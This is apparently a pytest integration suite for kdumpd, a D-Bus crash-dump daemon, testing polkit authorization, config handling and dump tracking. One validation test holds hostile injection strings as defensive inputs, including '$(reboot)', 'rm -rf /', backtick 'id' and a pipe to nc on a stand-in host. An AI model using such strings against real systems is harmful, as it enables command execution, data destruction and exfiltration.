"""kdumpd on a private system bus with real polkitd, driven by busctl and gdbus (as root, as an
authorized user and as nobody), on a fake machine whose kernel side is simulated."""

from __future__ import annotations

import calendar
import fcntl
import json
import os
import re
import subprocess
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from busenv import ALLOWED_USER, BIN, BUS_NAME, DUMP, MANAGER, PATH, REPO, Bus, wait_until
from machines import Machine

pytestmark = pytest.mark.bus

CONFIG = "/etc/default/kdump-tools"
EMPTY = "@a{sv} {}"
REFUSED = (
    "org.kdumpd.Kdump1.Error.NotAuthorized",
    "org.freedesktop.DBus.Error.InteractiveAuthorizationRequired",
)


def error_name(done: subprocess.CompletedProcess[str]) -> str:
    match = re.search(r"GDBus\.Error:([\w.]+):", done.stderr)
    assert done.returncode != 0 and match, (done.stdout, done.stderr)
    return match.group(1)


def arm(bus: Bus, **kw: Any) -> subprocess.CompletedProcess[str]:
    return bus.gdbus_call(f"{MANAGER}.Arm", EMPTY, **kw)


def disarm_keep_enabled(bus: Bus) -> None:
    done = bus.gdbus_call(f"{MANAGER}.Disarm", "{'disable': <false>}")
    assert done.returncode == 0, done.stderr


def exported(bus: Bus, path: str) -> bool:
    return DUMP in bus.busctl("introspect", "--xml-interface", BUS_NAME, path).stdout


def make_dump(machine: Machine, name: str, release: str = "6.1.0-56-amd64") -> Path:
    stamp = name.rsplit("-", 1)[-1]
    d = machine.root / "var/crash" / name
    d.mkdir(mode=0o700)
    (d / f"dmesg.{stamp}").write_text(
        f"[0.000000] Linux version {release} (debian-kernel@lists.debian.org)\n"
        "[9.100000] Kernel panic - not syncing: sysrq triggered crash\n"
    )
    header = bytearray(4096)
    header[:8] = b"KDUMP   "
    header[142 : 142 + len(release)] = release.encode()
    (d / f"dump.{stamp}").write_bytes(bytes(header))
    return d


# -- contract ----------------------------------------------------------------------------------


def _members(element: ET.Element) -> list[tuple[str, ...]]:
    out: list[tuple[str, ...]] = []
    for child in element:
        if child.tag == "method":
            args = tuple(
                f"{a.get('direction', 'in')}:{a.get('type')}" for a in child.findall("arg")
            )
            out.append(("method", child.get("name", ""), *args))
        elif child.tag == "property":
            out.append(("property", child.get("name", ""), child.get("type", ""), "read"))
        elif child.tag == "signal":
            out.append(("signal", child.get("name", "")))
    return sorted(out)


def _interface(xml: str, name: str) -> list[tuple[str, ...]]:
    node = ET.fromstring(xml)
    found = [i for i in node.iter("interface") if i.get("name") == name]
    assert len(found) == 1, f"{name} not in introspection"
    return _members(found[0])


def test_introspection_matches_the_shipped_xml(bus: Bus, kdumpd: Any, machine: Machine) -> None:
    live = bus.run(
        [
            "gdbus",
            "introspect",
            "--address",
            bus.address,
            "--dest",
            BUS_NAME,
            "--object-path",
            PATH,
            "--xml",
        ]
    )
    assert live.returncode == 0, live.stderr
    shipped = (REPO / "dbus/org.kdumpd.Kdump1.Manager.xml").read_text()
    assert _interface(live.stdout, MANAGER) == _interface(shipped, MANAGER)

    d = make_dump(machine, "202611260802")
    try:
        path = "/org/kdumpd/Kdump1/dump/202611260802"
        wait_until(lambda: exported(bus, path), what=path)
        live = bus.busctl("introspect", "--xml-interface", BUS_NAME, path)
        shipped = (REPO / "dbus/org.kdumpd.Kdump1.Dump.xml").read_text()
        assert _interface(live.stdout, DUMP) == _interface(shipped, DUMP)
    finally:
        subprocess.run(["rm", "-rf", str(d)], check=True)


def test_everyone_may_read(bus: Bus, kdumpd: Any) -> None:
    state = bus.busctl("get-property", BUS_NAME, PATH, MANAGER, "State", user="nobody")
    assert state.returncode == 0, state.stderr
    assert state.stdout.strip() in ('s "not-ready"', 's "ready"', 's "disabled"')
    described = bus.gdbus_call(f"{MANAGER}.Describe", user="nobody")
    assert described.returncode == 0, described.stderr
    assert "CrashkernelReserved" in described.stdout
    objects = bus.busctl(
        "call",
        BUS_NAME,
        PATH,
        "org.freedesktop.DBus.ObjectManager",
        "GetManagedObjects",
        user="nobody",
    )
    assert objects.returncode == 0, objects.stderr


def test_describe_is_json_of_every_property(bus: Bus, kdumpd: Any) -> None:
    data = json.loads(bus.busctl_json("call", BUS_NAME, PATH, MANAGER, "Describe")["data"][0])
    props = bus.busctl_json(
        "call", BUS_NAME, PATH, "org.freedesktop.DBus.Properties", "GetAll", "s", MANAGER
    )["data"][0]
    assert set(props) <= set(data)
    assert data["CrashkernelReserved"] == props["CrashkernelReserved"]["data"] == 320 << 20
    assert data["KernelPath"] == "/var/lib/kdump/vmlinuz"


# -- arming ------------------------------------------------------------------------------------


def test_arm_and_disarm_emit_properties_changed(bus: Bus, kdumpd: Any, machine: Machine) -> None:
    with bus.monitor() as seen:
        done = arm(bus)
        assert done.returncode == 0, done.stderr
        assert bus.prop("Armed") is True
        assert bus.prop("State") == "ready"
        wait_until(lambda: "'Armed': <true>" in seen(), what="PropertiesChanged Armed=true")
    assert (machine.root / "proc/sys/kernel/panic_on_oops").read_text() == "1\n"
    with bus.monitor() as seen:
        disarm_keep_enabled(bus)
        wait_until(lambda: "'Armed': <false>" in seen(), what="PropertiesChanged Armed=false")
    assert bus.prop("State") == "not-ready"


def test_disarm_by_default_disables_and_arm_enables(
    bus: Bus, kdumpd: Any, machine: Machine
) -> None:
    assert bus.gdbus_call(f"{MANAGER}.Disarm", EMPTY).returncode == 0
    assert bus.prop("State") == "disabled"
    assert "USE_KDUMP=0" in (machine.root / CONFIG.lstrip("/")).read_text()
    assert arm(bus).returncode == 0
    assert bus.prop("State") == "ready"
    assert "USE_KDUMP=1" in (machine.root / CONFIG.lstrip("/")).read_text()
    disarm_keep_enabled(bus)


def test_nobody_is_refused_for_every_mutating_method(
    bus: Bus, kdumpd: Any, machine: Machine
) -> None:
    d = make_dump(machine, "202611261000")
    dump_path = "/org/kdumpd/Kdump1/dump/202611261000"
    wait_until(lambda: exported(bus, dump_path), what=dump_path)
    config_before = (machine.root / CONFIG.lstrip("/")).read_bytes()
    calls = [
        (f"{MANAGER}.Arm", [EMPTY], PATH),
        (f"{MANAGER}.Disarm", [EMPTY], PATH),
        (f"{MANAGER}.Reload", [], PATH),
        (f"{MANAGER}.SetConfig", ["{'KDUMP_COREDIR': <'/srv'>}", EMPTY], PATH),
        (f"{MANAGER}.TestCrash", [EMPTY], PATH),
        (f"{MANAGER}.PropagateKey", [], PATH),
        (f"{DUMP}.Delete", [], dump_path),
    ]
    for method, args, path in calls:
        assert error_name(bus.gdbus_call(method, *args, path=path, user="nobody")) in REFUSED
    # busctl asks for interactive authorization; with no agent polkit still says no.
    via_busctl = bus.busctl("call", BUS_NAME, PATH, MANAGER, "Arm", "a{sv}", "0", user="nobody")
    assert via_busctl.returncode != 0
    assert bus.prop("Armed") is False
    assert (machine.root / CONFIG.lstrip("/")).read_bytes() == config_before
    assert (machine.root / "proc/sysrq-trigger").read_text() == ""
    assert d.is_dir()
    subprocess.run(["rm", "-rf", str(d)], check=True)


def test_polkit_authorizes_the_user_its_rules_allow(bus: Bus, kdumpd: Any) -> None:
    done = arm(bus, user=ALLOWED_USER)
    assert done.returncode == 0, done.stderr
    assert bus.prop("Armed") is True
    assert (
        bus.gdbus_call(f"{MANAGER}.Disarm", "{'disable': <false>}", user=ALLOWED_USER).returncode
        == 0
    )
    assert bus.prop("Armed") is False


def test_unknown_or_mistyped_options_are_invalid_args(bus: Bus, kdumpd: Any) -> None:
    assert error_name(bus.gdbus_call(f"{MANAGER}.Arm", "{'enabel': <true>}")) == (
        "org.freedesktop.DBus.Error.InvalidArgs"
    )
    assert error_name(bus.gdbus_call(f"{MANAGER}.Arm", "{'enable': <'yes'>}")) == (
        "org.freedesktop.DBus.Error.InvalidArgs"
    )


# -- configuration -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "changes",
    [
        "{'NO_SUCH_VARIABLE': <'1'>}",
        "{'KDUMP_COREDIR': <['/var/crash']>}",
        "{'KDUMP_COREDIR': <'/var/crash/../../etc'>}",
        "{'KDUMP_COREDIR': <'/var/crash\\nUSE_KDUMP=0'>}",
        "{'KDUMP_COREDIR': <'/var/crash;reboot'>}",
        "{'KDUMP_COREDIR': <'$(reboot)'>}",
        "{'SSH': <'user@host; rm -rf /'>}",
        "{'NFS': <'host:/export`id`'>}",
        "{'MAKEDUMP_ARGS': <'-c -d 31 | nc evil 1'>}",
        "{'KDUMP_CMDLINE_APPEND': <'" + "x" * 100_000 + "'>}",
        "{'USE_KDUMP': <'maybe'>}",
    ],
)
def test_setconfig_refuses_bad_input_and_leaves_the_file(
    bus: Bus, kdumpd: Any, machine: Machine, changes: str
) -> None:
    config = machine.root / CONFIG.lstrip("/")
    before = config.read_bytes()
    assert error_name(bus.gdbus_call(f"{MANAGER}.SetConfig", changes, EMPTY)) == (
        "org.kdumpd.Kdump1.Error.InvalidConfig"
    )
    assert config.read_bytes() == before
    assert sorted(p.name for p in config.parent.iterdir()) == ["kdump-tools"]
    assert bus.prop("CoreDir") == "/var/crash"


def test_setconfig_rewrites_keeping_comments(bus: Bus, kdumpd: Any, machine: Machine) -> None:
    config = machine.root / CONFIG.lstrip("/")
    comments = [line for line in config.read_text().splitlines() if line.startswith("#")]
    got = bus.busctl_json("call", BUS_NAME, PATH, MANAGER, "GetConfig")["data"][0]
    assert got["KDUMP_COREDIR"]["data"] == "/var/crash"
    with bus.monitor() as seen:
        done = bus.gdbus_call(
            f"{MANAGER}.SetConfig",
            "{'KDUMP_COREDIR': <'/srv/crash'>, 'KDUMP_NUM_DUMPS': <3>}",
            EMPTY,
        )
        assert done.returncode == 0, done.stderr
        wait_until(lambda: "'CoreDir': <'/srv/crash'>" in seen(), what="CoreDir changed")
    text = config.read_text()
    assert "KDUMP_COREDIR=/srv/crash" in text and "KDUMP_NUM_DUMPS=3" in text
    assert [line for line in text.splitlines() if line.startswith("#")] == comments
    assert (
        bus.gdbus_call(
            f"{MANAGER}.SetConfig", "{'KDUMP_COREDIR': <''>, 'KDUMP_NUM_DUMPS': <''>}", EMPTY
        ).returncode
        == 0
    )
    assert bus.prop("CoreDir") == "/var/crash"


def test_config_becoming_unreadable_keeps_the_daemon_serving(
    bus: Bus, kdumpd: Any, machine: Machine
) -> None:
    config = machine.root / CONFIG.lstrip("/")
    saved = config.read_bytes()
    config.unlink()
    config.mkdir()  # reading it now fails (EISDIR), even for root
    try:
        wait_until(
            lambda: any(p[0] == "config-invalid" for p in bus.prop("Problems")),
            what="config-invalid problem",
        )
        assert error_name(bus.gdbus_call(f"{MANAGER}.GetConfig")) == (
            "org.kdumpd.Kdump1.Error.InvalidConfig"
        )
        assert error_name(arm(bus)) == "org.kdumpd.Kdump1.Error.InvalidConfig"
        assert bus.gdbus_call(f"{MANAGER}.Describe").returncode == 0
    finally:
        config.rmdir()
        config.write_bytes(saved)
    wait_until(lambda: bus.prop("CoreDir") == "/var/crash", what="recovery")


# -- watching ----------------------------------------------------------------------------------


def test_changes_behind_its_back_are_announced(bus: Bus, kdumpd: Any, machine: Machine) -> None:
    config = machine.root / CONFIG.lstrip("/")
    saved = config.read_text()
    with bus.monitor() as seen:
        # An editor writing the file in place.
        config.write_text(saved + "\nKDUMP_COREDIR=/var/crash2\n")
        wait_until(lambda: "'CoreDir': <'/var/crash2'>" in seen(), what="config edit seen")
        config.write_text(saved)
        wait_until(lambda: "'CoreDir': <'/var/crash'>" in seen(), what="config restored")
        # kdump-config acting directly (--local), not through the daemon.
        env = {**os.environ, "KDUMPD_KEXEC_SIMULATE": "1"}
        loaded = subprocess.run(
            [str(BIN / "kdump-config"), "--root", str(machine.root), "load", "--local"],
            capture_output=True,
            text=True,
            env=env,
            check=False,
        )
        assert loaded.returncode == 0, loaded.stderr
        wait_until(lambda: "'Armed': <true>" in seen(), what="kdump-config load seen")
        unloaded = subprocess.run(
            [str(BIN / "kdump-config"), "--root", str(machine.root), "unload", "--local"],
            capture_output=True,
            text=True,
            env=env,
            check=False,
        )
        assert unloaded.returncode == 0, unloaded.stderr
        wait_until(lambda: "'Armed': <false>" in seen(), what="kdump-config unload seen")
        # A capture writing a new dump directory.
        d = make_dump(machine, "202611261101")
        wait_until(
            lambda: "InterfacesAdded" in seen() and "202611261101" in seen(), what="InterfacesAdded"
        )
        subprocess.run(["rm", "-rf", str(d)], check=True)
        wait_until(lambda: "InterfacesRemoved" in seen(), what="InterfacesRemoved")


# -- dumps -------------------------------------------------------------------------------------


def test_dumps_are_listed_despite_junk_and_can_be_deleted(
    bus: Bus, kdumpd: Any, machine: Machine
) -> None:
    crash = machine.root / "var/crash"
    good = make_dump(machine, "202611250930")
    make_dump(machine, "10.0.0.7-202611250931")
    (crash / "kdump_lock").write_text("")
    (crash / "linux-image-6.1.0-56-amd64-202611250930.crash").write_text("apport")
    (crash / "not-a-dump").mkdir()
    (crash / "202611250932").mkdir()
    (crash / "202611250932" / "dump-incomplete").write_bytes(os.urandom(512))
    (crash / "202611250932" / "metadata.json").write_text("{broken json")
    (crash / "202611250933").symlink_to("/etc")
    (crash / "202611250934").write_text("a file named like a stamp")
    try:
        paths = {
            "/org/kdumpd/Kdump1/dump/202611250930": "complete",
            "/org/kdumpd/Kdump1/dump/10_2e0_2e0_2e7_2d202611250931": "complete",
            "/org/kdumpd/Kdump1/dump/202611250932": "incomplete",
        }
        for path, status in paths.items():
            wait_until(lambda p=path: exported(bus, p), what=path)
            assert bus.prop("Status", path, DUMP) == status
        objects = bus.busctl_json(
            "call", BUS_NAME, PATH, "org.freedesktop.DBus.ObjectManager", "GetManagedObjects"
        )["data"][0]
        assert set(objects) == set(paths)
        first = "/org/kdumpd/Kdump1/dump/202611250930"
        assert bus.prop("KernelRelease", first, DUMP) == "6.1.0-56-amd64"
        assert bus.prop("Format", first, DUMP) == "kdump-compressed"
        assert bus.prop("PanicMessage", first, DUMP) == "sysrq triggered crash"
        stamp_time = calendar.timegm((2026, 11, 25, 9, 30, 0))
        assert bus.prop("Timestamp", first, DUMP) == stamp_time * 1_000_000
        done = bus.gdbus_call(f"{DUMP}.Delete", path=first)
        assert done.returncode == 0, done.stderr
        assert not good.exists()
        assert not exported(bus, first)
        assert (crash / "202611250933").is_symlink() and Path("/etc/passwd").exists()
    finally:
        for name in ("10.0.0.7-202611250931", "202611250932", "not-a-dump"):
            subprocess.run(["rm", "-rf", str(crash / name)], check=True)
        for name in (
            "202611250933",
            "202611250934",
            "kdump_lock",
            "linux-image-6.1.0-56-amd64-202611250930.crash",
        ):
            (crash / name).unlink()


# -- test crash --------------------------------------------------------------------------------


def test_test_crash_is_recorded_then_settled_by_the_dump(
    bus: Bus, kdumpd: Any, machine: Machine
) -> None:
    assert error_name(bus.gdbus_call(f"{MANAGER}.TestCrash", EMPTY)) == (
        "org.kdumpd.Kdump1.Error.Failed"
    )  # not armed: refused, nothing written
    assert (machine.root / "proc/sysrq-trigger").read_text() == ""
    assert arm(bus).returncode == 0
    done = bus.gdbus_call(f"{MANAGER}.TestCrash", EMPTY)
    assert done.returncode == 0, done.stderr
    assert bus.prop("LastTest")["State"]["data"] == "pending"
    # The port behind the trigger is this machine's /proc/sysrq-trigger: a file in the tree.
    wait_until(lambda: (machine.root / "proc/sysrq-trigger").read_text() == "c", what="sysrq c")
    # "After the reboot": a new boot id and the dump the capture kernel saved.
    (machine.root / "proc/sys/kernel/random/boot_id").write_text("new-boot\n")
    stamp = time.strftime("%Y%m%d%H%M", time.gmtime())
    d = make_dump(machine, stamp)
    try:
        wait_until(lambda: bus.prop("LastTest")["State"]["data"] == "success", what="success")
        assert bus.prop("LastTest")["DumpId"]["data"] == stamp
    finally:
        subprocess.run(["rm", "-rf", str(d)], check=True)
        disarm_keep_enabled(bus)


# -- robustness --------------------------------------------------------------------------------


def test_a_client_leaving_mid_call_does_not_hurt(bus: Bus, kdumpd: Any, machine: Machine) -> None:
    lock = machine.root / "var/lib/kdump/arm.lock"
    fd = os.open(lock, os.O_RDWR | os.O_CREAT)
    fcntl.flock(fd, fcntl.LOCK_EX)  # the daemon's Arm now waits for this lock
    try:
        client = subprocess.Popen(
            [
                "busctl",
                f"--address={bus.address}",
                "call",
                BUS_NAME,
                PATH,
                MANAGER,
                "Arm",
                "a{sv}",
                "0",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(0.5)
        client.kill()
        client.wait()
        assert bus.prop("State") in ("not-ready", "ready")  # still serving while Arm waits
    finally:
        os.close(fd)
    wait_until(lambda: bus.prop("Armed") is True, what="the abandoned Arm completed")
    disarm_keep_enabled(bus)
    assert kdumpd.poll() is None


def test_kdump_config_goes_through_the_running_daemon(
    bus: Bus, kdumpd: Any, machine: Machine
) -> None:
    log = bus.directory / f"kdumpd-{machine.root.name}.log"
    before = log.read_text().count("Arm called by")
    done = subprocess.run(
        [str(BIN / "kdump-config"), "--root", str(machine.root), "load"],
        capture_output=True,
        text=True,
        env=bus.env(),
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == "loaded kdump kernel\n"
    assert log.read_text().count("Arm called by") == before + 1
    assert bus.prop("Armed") is True
    done = subprocess.run(
        [str(BIN / "kdump-config"), "--root", str(machine.root), "unload"],
        capture_output=True,
        text=True,
        env=bus.env(),
        check=False,
    )
    assert (done.returncode, done.stdout) == (0, "unloaded kdump kernel\n"), done.stderr
    assert bus.prop("Armed") is False
    assert "USE_KDUMP=1" in (machine.root / CONFIG.lstrip("/")).read_text()


def test_only_root_may_own_the_name(bus: Bus, kdumpd: Any) -> None:
    request = [
        "gdbus",
        "call",
        "--address",
        bus.address,
        "--dest",
        "org.freedesktop.DBus",
        "--object-path",
        "/org/freedesktop/DBus",
        "--method",
        "org.freedesktop.DBus.RequestName",
        BUS_NAME,
        "4",
    ]
    denied = bus.run(request, user="nobody")
    assert error_name(denied) == "org.freedesktop.DBus.Error.AccessDenied"
    assert "not allowed to own the service" in denied.stderr
    # Root may ask, and is told the name is taken (DO_NOT_QUEUE: 3 = EXISTS).
    assert bus.run(request).stdout.strip() == "(uint32 3,)"


def test_a_dump_being_finished_updates_its_object(bus: Bus, kdumpd: Any, machine: Machine) -> None:
    d = machine.root / "var/crash/202611261200"
    d.mkdir(mode=0o700)
    path = "/org/kdumpd/Kdump1/dump/202611261200"
    try:
        (d / "dmesg.202611261200").write_text("Kernel panic - not syncing: Oops\n")
        (d / "dump-incomplete").write_bytes(b"KDUMP   " + bytes(1000))
        wait_until(lambda: exported(bus, path), what=path)
        assert bus.prop("Status", path, DUMP) == "incomplete"
        with bus.monitor() as seen:
            (d / "dump-incomplete").rename(d / "dump.202611261200")  # what savecore does last
            wait_until(lambda: "'Status': <'complete'>" in seen(), what="Status complete")
        assert bus.prop("Status", path, DUMP) == "complete"
    finally:
        subprocess.run(["rm", "-rf", str(d)], check=True)


def test_a_second_daemon_refuses_to_queue(bus: Bus, kdumpd: Any, machine: Machine) -> None:
    second = subprocess.run(
        [str(BIN / "kdumpd"), "--root", str(machine.root)],
        capture_output=True,
        text=True,
        env=bus.env(),
        timeout=30,
        check=False,
    )
    assert second.returncode == 1
    assert "is another kdumpd running?" in second.stderr
    assert kdumpd.poll() is None and bus.prop("CoreDir") == "/var/crash"


def test_a_core_directory_created_later_is_watched(bus: Bus, kdumpd: Any, machine: Machine) -> None:
    later = machine.root / "srv/later"
    done = bus.gdbus_call(f"{MANAGER}.SetConfig", "{'KDUMP_COREDIR': <'/srv/later'>}", EMPTY)
    assert done.returncode == 0, done.stderr
    try:
        later.mkdir(parents=True)
        path = "/org/kdumpd/Kdump1/dump/202611261300"
        d = later / "202611261300"
        d.mkdir()
        (d / "dmesg.202611261300").write_text("x\n")
        wait_until(lambda: exported(bus, path), timeout=5, what="dump in a new core dir")
    finally:
        bus.gdbus_call(f"{MANAGER}.SetConfig", "{'KDUMP_COREDIR': <''>}", EMPTY)
        subprocess.run(["rm", "-rf", str(machine.root / "srv")], check=True)
